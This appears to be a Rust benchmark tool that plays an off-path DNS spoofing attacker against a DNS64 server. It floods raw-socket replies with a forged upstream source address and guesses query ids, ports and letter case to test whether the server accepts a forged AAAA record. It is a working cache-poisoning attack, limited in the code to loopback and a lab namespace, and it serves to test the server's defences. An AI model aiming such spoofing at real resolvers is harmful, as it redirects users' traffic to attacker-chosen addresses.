//! An off-path attacker (RFC 5452), to test a DNS64 server with: `benches/dns64-spoofing` runs it.
//!
//! It queries the server for one name after the other, so that the server queries its upstream, and sends forged
//! replies as fast as it can until the true one has arrived: with the right source address and port and the right
//! question, but a guessed id, a guessed destination port, and a guessed case of every letter. If the client gets the
//! forged address, the server accepted a forged reply. The more the attacker knows (`--ports`, `--case-known`), the
//! easier the attack is. With one port and known case it must succeed within seconds, which shows that the test can
//! fail.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::ops::RangeInclusive;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use clap::Parser;
use rand_chacha::ChaCha12Rng;
use rand_chacha::rand_core::{RngCore, SeedableRng};
use socket2::{Domain, Protocol, Socket, Type};

/// Address in the forged replies.
const FORGED: [u8; 16] = [0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
/// Protocol of raw sockets (IPPROTO_RAW): the sender writes the IP header.
const RAW: i32 = 255;
/// Length of the IPv4 and UDP headers.
const HEADERS: usize = 20 + 8;
/// Position of the question in a DNS message.
const QUESTION: usize = 12;
/// Number of forged replies between two checks of the client's socket.
const BURST: u32 = 32;
/// Longest wait for a true reply.
const REPLY_TIMEOUT: Duration = Duration::from_secs(2);

/// Sends forged replies to a DNS64 server in a namespace of this host.
#[derive(Parser)]
struct Args {
    /// The server under attack.
    #[arg(long)]
    server: SocketAddrV4,
    /// Its upstream; the replies claim to come from its address and port.
    #[arg(long)]
    upstream: SocketAddrV4,
    /// Duration in seconds, at most 600.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=600))]
    seconds: u64,
    /// Guess the destination port in this range: LOW-HIGH.
    #[arg(long, default_value = "1024-65535", value_parser = ports)]
    ports: RangeInclusive<u16>,
    /// Keep the case of the letters: for a server without mixed case.
    #[arg(long)]
    case_known: bool,
}

/// Parses LOW-HIGH.
fn ports(text: &str) -> Result<RangeInclusive<u16>, String> {
    let range =
        text.split_once('-').and_then(|(low, high)| Some((low.parse().ok()?, high.parse().ok()?)));
    match range {
        Some((low, high)) if low <= high => Ok(low..=high),
        _ => Err(format!("`{text}` is not a range of ports: write 1024-65535")),
    }
}

/// Outcomes of the queried names.
#[derive(Default)]
struct Outcome {
    forged_sent: u64,
    names: u64,
    true_replies: u64,
    accepted: u64,
    no_reply: u64,
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let local = |address: &SocketAddrV4| {
        address.ip().is_loopback() || address.ip().octets()[..2] == [10, 9]
    };
    ensure!(
        local(&args.server) && local(&args.upstream),
        "only servers in the scripts' namespaces (10.9.0.0/16) or on loopback are allowed"
    );
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
        .context("cannot open a raw socket: run this as root of the namespace")?;
    let outcome = attack(&args, &raw)?;
    println!(
        "{} names queried, {} forged replies ({:.0} per second); true answers {}, forged answers accepted {}, no answer {}",
        outcome.names,
        outcome.forged_sent,
        outcome.forged_sent as f64 / args.seconds as f64,
        outcome.true_replies,
        outcome.accepted,
        outcome.no_reply,
    );
    Ok(())
}

/// Queries names and forges replies until the time is over.
fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
    let client = UdpSocket::bind((*args.upstream.ip(), 0)).context("cannot bind the client")?;
    client.connect(args.server)?;
    client.set_nonblocking(true)?;
    let target = args.server.into();
    let mut rng = ChaCha12Rng::seed_from_u64(1);
    let mut outcome = Outcome::default();
    let end = Instant::now() + Duration::from_secs(args.seconds);
    while Instant::now() < end {
        let address = Ipv4Addr::from(0x2000_0000 + outcome.names as u32);
        outcome.names += 1;
        let question = question(address);
        client.send(&query(&question, outcome.names as u16)).context("cannot send a query")?;
        let asked = Instant::now();
        let mut forged = Forged::new(args, &question);
        loop {
            for _ in 0..BURST {
                let packet = forged.guess(args, &mut rng);
                match raw.send_to(packet, &target) {
                    Ok(_) => outcome.forged_sent += 1,
                    // The queue to the server is full: the attack runs at the rate of the link.
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                    Err(error) if error.raw_os_error() == Some(nix::libc::ENOBUFS) => {}
                    Err(error) => return Err(error).context("cannot send a forged reply"),
                }
            }
            let mut reply = [0; 4096];
            match client.recv(&mut reply) {
                Ok(len) if reply[..len].windows(16).any(|w| w == FORGED) => outcome.accepted += 1,
                Ok(_) => outcome.true_replies += 1,
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                    if asked.elapsed() < REPLY_TIMEOUT {
                        continue;
                    }
                    outcome.no_reply += 1;
                }
                Err(error) => return Err(error).context("cannot receive from the server"),
            }
            break;
        }
    }
    Ok(outcome)
}

/// Composes the AAAA question for an address's name in the namespace of dns64perf.
fn question(address: Ipv4Addr) -> Vec<u8> {
    let [a, b, c, d] = address.octets();
    let mut question =
        format!("\x0f{a:03}-{b:03}-{c:03}-{d:03}\x09dns64perf\x04test\0").into_bytes();
    question.extend([0, 28, 0, 1]);
    question
}

/// Composes a client's query.
fn query(question: &[u8], id: u16) -> Vec<u8> {
    let [high, low] = id.to_be_bytes();
    let mut query = vec![high, low, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    query.extend(question);
    query
}

/// A forged reply with its headers.
struct Forged {
    packet: Vec<u8>,
    question: RangeInclusive<usize>,
}

impl Forged {
    /// Composes everything except the guessed parts.
    fn new(args: &Args, question: &[u8]) -> Self {
        let mut message = vec![0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
        message.extend(question);
        message.extend([0xc0, QUESTION as u8, 0, 28, 0, 1, 0, 1, 0x51, 0x80, 0, 16]);
        message.extend(FORGED);
        let size = |headers: usize| ((headers + message.len()) as u16).to_be_bytes();
        // The kernel fills in the length, the id and the checksum of the IP header. A UDP checksum of 0
        // means none.
        let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
        packet.extend(args.upstream.ip().octets());
        packet.extend(args.server.ip().octets());
        packet.extend(args.upstream.port().to_be_bytes());
        packet.extend([0, 0]);
        packet.extend(size(8));
        packet.extend([0, 0]);
        packet.extend(message);
        let name = HEADERS + QUESTION;
        Forged { packet, question: name..=name + question.len() - 6 }
    }

    /// Fills in the next guess.
    fn guess(&mut self, args: &Args, rng: &mut ChaCha12Rng) -> &[u8] {
        let random = rng.next_u64();
        let ports = u64::from(args.ports.end() - args.ports.start()) + 1;
        let port = args.ports.start() + (((random >> 32) * ports) >> 32) as u16;
        self.packet[22..24].copy_from_slice(&port.to_be_bytes());
        self.packet[HEADERS..HEADERS + 2].copy_from_slice(&(random as u16).to_be_bytes());
        if !args.case_known {
            let mut coins = random as u32 >> 16 | (rng.next_u32() << 16);
            for byte in &mut self.packet[self.question.clone()] {
                if byte.is_ascii_alphabetic() {
                    *byte = (*byte & !0x20) | (coins as u8 & 1) << 5;
                    coins >>= 1;
                }
            }
        }
        &self.packet
    }
}
